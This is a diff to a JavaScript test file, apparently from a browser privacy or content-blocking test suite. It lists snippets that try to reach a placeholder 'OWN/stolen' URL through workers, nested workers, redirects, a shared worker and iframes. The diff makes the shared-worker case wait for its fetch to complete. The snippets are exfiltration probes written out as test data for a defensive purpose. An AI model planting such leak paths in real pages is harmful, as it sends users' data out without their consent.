@@ -43,7 +43,8 @@ const INSIDE = {
   'worker that fetches': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('OWN/stolen', { mode: 'no-cors' }).catch(() => 0).then(() => postMessage(0))"]))); worker.onmessage = worker.onerror = resolve })`,
   'worker in a worker': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["try { new Worker('OWN/stolen') } catch {} postMessage(0)"]))); worker.onmessage = worker.onerror = resolve })`,
   'worker in a worker, redirected': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["new Worker(origin + '/redirect?to=' + encodeURIComponent('OWN/stolen')).onerror = () => postMessage(0)"]))); worker.onmessage = worker.onerror = resolve })`,
-  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(["fetch('OWN/stolen', { mode: 'no-cors' })"])))`,
+  // It waits: the worker ends with its last page.
+  'shared worker': `await new Promise((resolve) => { const worker = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports: [port] }) => fetch('OWN/stolen', { mode: 'no-cors' }).catch(() => 0).then(() => port.postMessage(0))"]))); worker.port.onmessage = worker.onerror = resolve })`,
   frame: `document.body.insertAdjacentHTML('beforeend', '<iframe src="OWN/stolen"></iframe>')`,
   'frame without referrer': `document.body.insertAdjacentHTML('beforeend', '<iframe referrerpolicy=no-referrer src="OWN/stolen"></iframe>')`,
   'frame, sandboxed': `document.body.insertAdjacentHTML('beforeend', '<iframe sandbox=allow-scripts src="OWN/stolen"></iframe>')`,
